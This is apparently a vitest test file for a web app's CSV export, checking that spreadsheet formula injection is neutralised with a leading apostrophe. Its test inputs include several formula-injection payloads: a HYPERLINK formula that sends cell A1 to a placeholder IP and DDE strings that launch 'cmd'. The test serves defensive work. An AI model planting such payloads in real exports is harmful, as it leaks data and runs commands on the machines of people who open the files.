import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvResponse, type CsvColumn } from "~/web/csv-export.server";

/**
 * Formula injection in the CSV exports (enquiries, contact queries): the real csvResponse, read back with a
 * real CSV parser, the way a spreadsheet opens it with "," and with ";" as the separator (Excel in many
 * European locales), where a ";" inside a value starts a cell of its own.
 */
type Row = { id: number; text: string };
const COLUMNS: CsvColumn<Row>[] = [
  { header: "id", value: (r) => r.id },
  { header: "text", value: (r) => r.text },
  { header: "after", value: () => "end" },
];

async function exportRows(texts: string[]): Promise<string> {
  async function* pages() {
    yield texts.map((text, i) => ({ id: i + 1, text }));
  }
  return csvResponse("t.csv", COLUMNS, pages()).text();
}

/** The text column as a spreadsheet with "," as the separator reads it. */
async function cells(texts: string[]): Promise<string[]> {
  const rows = parse(await exportRows(texts), { bom: true, columns: true }) as Record<string, string>[];
  expect(rows.map((r) => r.after)).toEqual(texts.map(() => "end"));
  return rows.map((r) => r.text);
}

const RISKY_START = /^\s*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

const risky: [string, string][] = [
  ["a formula", '=HYPERLINK("http://203.0.113.9/?leak="&A1,"Click")'],
  ["a phone number with its country code", "+91 98450 12345"],
  ["a DDE payload", "-2+3+cmd|' /C calc'!A0"],
  ["an @ function", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["a leading tab", "\t=1+1"],
  ["a leading carriage return", "\r=1+1"],
  ["blanks before a formula", "   =1+1"],
  ["a full-width equals sign", "\uFF1D1+1"],
  ["a formula after a semicolon", 'Weekend batch;=HYPERLINK("http://203.0.113.9","x")'],
  ["a formula after a semicolon and a blank", "Weekend batch; +cmd|' /C calc'!A0"],
  ["a formula after a comma", "Pune,@SUM(1+1)"],
  ["two formulas after separators", "a;=1+1, -2+3;\t=4"],
];

const ordinary = [
  "Ravi Kumar",
  "ravi.k+soc@example.com",
  "9845012345",
  "SOC Analyst - Level 1",
  "C++ and Python basics",
  "Mumbai, India",
  "cv.pdf; photo.jpg",
  "Q&A: is the 2-week batch online?",
  "2026-01-05T09:30:00.000Z",
  'He said "call me"; thanks',
  "Line one\nLine two",
];

describe("CSV export formula neutralisation", () => {
  it("gives each value that could start a formula a leading apostrophe, read back with a CSV parser", async () => {
    const read = await cells(risky.map(([, v]) => v));
    read.forEach((cell, i) => {
      const [label, value] = risky[i];
      expect(cell.startsWith("'"), label).toBe(true);
      // Nothing is lost: the apostrophes added are all that changed.
      expect(cell.slice(1).replace(/([,;])'/g, "$1"), label).toBe(value);
    });
    expect(read[1]).toBe("'+91 98450 12345");
    expect(read[0]).toBe(`'${risky[0][1]}`);
    expect(read[8]).toBe(`'Weekend batch;'=HYPERLINK("http://203.0.113.9","x")`);
    expect(read[9]).toBe("'Weekend batch;' +cmd|' /C calc'!A0");
    expect(read[11]).toBe("'a;'=1+1,' -2+3;'\t=4");
  });

  it("quotes each neutralised value", async () => {
    const raw = await exportRows(["+91 98450 12345", "Weekend batch;=1+1"]);
    expect(raw).toContain(`,"'+91 98450 12345",`);
    expect(raw).toContain(`,"'Weekend batch;'=1+1",`);
  });

  it("leaves ordinary values as they are", async () => {
    expect(await cells(ordinary)).toEqual(ordinary);
  });

  it('starts no cell with a formula when the file is opened with ";" as the separator', async () => {
    const raw = await exportRows([...risky.map(([, v]) => v), ...ordinary]);
    // Such a program splits every line at each ";", inside quoted values too (they do not start its cells).
    const split = parse(raw, { bom: true, delimiter: ";", relax_quotes: true, relax_column_count: true }) as string[][];
    const starts = split.flat();
    expect(starts.length).toBeGreaterThan(risky.length);
    for (const cell of starts) expect(cell, JSON.stringify(cell)).not.toMatch(RISKY_START);
  });
});
